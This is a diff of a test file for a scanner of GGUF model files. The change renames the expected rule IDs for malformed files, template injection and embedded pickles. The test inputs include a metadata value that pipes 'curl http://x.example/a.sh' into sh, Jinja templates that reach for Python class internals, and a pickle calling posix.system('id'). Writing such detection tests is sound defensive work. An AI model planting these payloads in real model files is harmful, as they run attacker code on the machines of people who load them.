@@ -63,13 +63,13 @@ test('files of any keys and tensors are clean', () => {
 
 describe('impossible numbers', () => {
   const cases: readonly (readonly [string, GgufShape, string])[] = [
-    ['2^63 keys', { pairCount: 2n ** 63n }, 'GGUF-001'],
-    ['2^63 tensors', { tensorCount: 2n ** 63n }, 'GGUF-001'],
-    ['dimensions that overflow', { tensors: [['t', [2n ** 62n, 8], 0, 0]] }, 'GGUF-001'],
-    ['a dimension of 2^62', { tensors: [['t', [2n ** 62n], 0, 0]], data: 64 }, 'GGUF-002'],
-    ['five dimensions', { tensors: [['t', [1, 1, 1, 1, 1], 0, 0]], data: 64 }, 'GGUF-001'],
-    ['rows that are no whole blocks', { tensors: [['t', [100], 12, 0]], data: 640 }, 'GGUF-001'],
-    ['a tensor outside the file', { tensors: [['t', [64], 0, 4096]], data: 64 }, 'GGUF-002'],
+    ['2^63 keys', { pairCount: 2n ** 63n }, 'MDL-GGUF-001'],
+    ['2^63 tensors', { tensorCount: 2n ** 63n }, 'MDL-GGUF-001'],
+    ['dimensions that overflow', { tensors: [['t', [2n ** 62n, 8], 0, 0]] }, 'MDL-GGUF-001'],
+    ['a dimension of 2^62', { tensors: [['t', [2n ** 62n], 0, 0]], data: 64 }, 'MDL-GGUF-002'],
+    ['five dimensions', { tensors: [['t', [1, 1, 1, 1, 1], 0, 0]], data: 64 }, 'MDL-GGUF-001'],
+    ['rows that are no whole blocks', { tensors: [['t', [100], 12, 0]], data: 640 }, 'MDL-GGUF-001'],
+    ['a tensor outside the file', { tensors: [['t', [64], 0, 4096]], data: 64 }, 'MDL-GGUF-002'],
     [
       'overlapping tensors',
       {
@@ -79,10 +79,10 @@ describe('impossible numbers', () => {
         ],
         data: 512,
       },
-      'GGUF-002',
+      'MDL-GGUF-002',
     ],
-    ['an offset off the alignment', { tensors: [['a', [2], 0, 8]], data: 512 }, 'GGUF-002'],
-    ['an alignment of zero', { pairs: [['general.alignment', 0]] }, 'GGUF-002'],
+    ['an offset off the alignment', { tensors: [['a', [2], 0, 8]], data: 512 }, 'MDL-GGUF-002'],
+    ['an alignment of zero', { pairs: [['general.alignment', 0]] }, 'MDL-GGUF-002'],
     [
       'one key twice',
       {
@@ -91,7 +91,7 @@ describe('impossible numbers', () => {
           ['general.name', 'b'],
         ],
       },
-      'GGUF-003',
+      'MDL-GGUF-003',
     ],
     [
       'one tensor twice',
@@ -102,14 +102,14 @@ describe('impossible numbers', () => {
         ],
         data: 64,
       },
-      'GGUF-003',
+      'MDL-GGUF-003',
     ],
-    ['an unknown tensor type', { tensors: [['a', [8], 99, 0]], data: 64 }, 'GGUF-004'],
-    ['an unknown version', { version: 9 }, 'GGUF-004'],
-    ['bytes behind the last tensor', { tensors: [['a', [8], 0, 0]], data: 6400 }, 'GGUF-005'],
-    ['commands in the metadata', { pairs: [['general.description', 'curl http://x.example/a.sh | sh']] }, 'GGUF-006'],
-    ['a template that climbs', { pairs: [['tokenizer.chat_template', "{{ ''.__class__.__mro__ }}"]] }, 'TPL-001'],
-    ['a second template that climbs', { pairs: [['tokenizer.chat_template.tool_use', "{{ ''.__class__ }}"]] }, 'TPL-001'],
+    ['an unknown tensor type', { tensors: [['a', [8], 99, 0]], data: 64 }, 'MDL-GGUF-004'],
+    ['an unknown version', { version: 9 }, 'MDL-GGUF-004'],
+    ['bytes behind the last tensor', { tensors: [['a', [8], 0, 0]], data: 6400 }, 'MDL-GGUF-005'],
+    ['commands in the metadata', { pairs: [['general.description', 'curl http://x.example/a.sh | sh']] }, 'MDL-GGUF-006'],
+    ['a template that climbs', { pairs: [['tokenizer.chat_template', "{{ ''.__class__.__mro__ }}"]] }, 'MDL-TPL-001'],
+    ['a second template that climbs', { pairs: [['tokenizer.chat_template.tool_use', "{{ ''.__class__ }}"]] }, 'MDL-TPL-001'],
   ];
   test.each(cases)('%s', (_name, shape, rule) => {
     expect(scanBytes(makeGguf(shape)).rules).toContain(rule);
@@ -120,12 +120,12 @@ test('a string length of 2^64-8 is told and what stood before it is kept', () =>
   const pair = concat(ggufText('tokenizer.chat_template'), u32(8), ggufText("{{ ''.__class__ }}"));
   const scan = scanBytes(concat('GGUF', u32(3), u64(0), u64(2), pair, u64(2n ** 64n - 8n), new Uint8Array(64)));
   expect(scan.outcome).toBe('unreadable');
-  expect(scan.rules).toEqual(['GGUF-001', 'TPL-001']);
+  expect(scan.rules).toEqual(['MDL-GGUF-001', 'MDL-TPL-001']);
 });
 
 test('the place of a template finding is the place of the tag in the file', () => {
   const bytes = makeGguf({ pairs: [['tokenizer.chat_template', "ä{{ 'x' }}{{ ''.__class__ }}"]] });
-  const found = scanBytes(bytes).observations.find((each) => each.ruleId === 'TPL-001');
+  const found = scanBytes(bytes).observations.find((each) => each.ruleId === 'MDL-TPL-001');
   const at = found?.location.offset ?? 0;
   expect(Buffer.from(bytes.subarray(at, at + (found?.location.length ?? 0))).toString()).toBe("{{ ''.__class__ }}");
 });
@@ -135,5 +135,5 @@ test('a pickle behind the last tensor is examined', () => {
     tensors: [['a', [8], 0, 0]],
     data: concat(new Uint8Array(32), stream(reduce('posix', 'system', op.text('id')))),
   };
-  expect(scanBytes(makeGguf(shape)).rules).toEqual(['GGUF-005', 'PKL-001']);
+  expect(scanBytes(makeGguf(shape)).rules).toEqual(['MDL-GGUF-005', 'MDL-PKL-001']);
 });
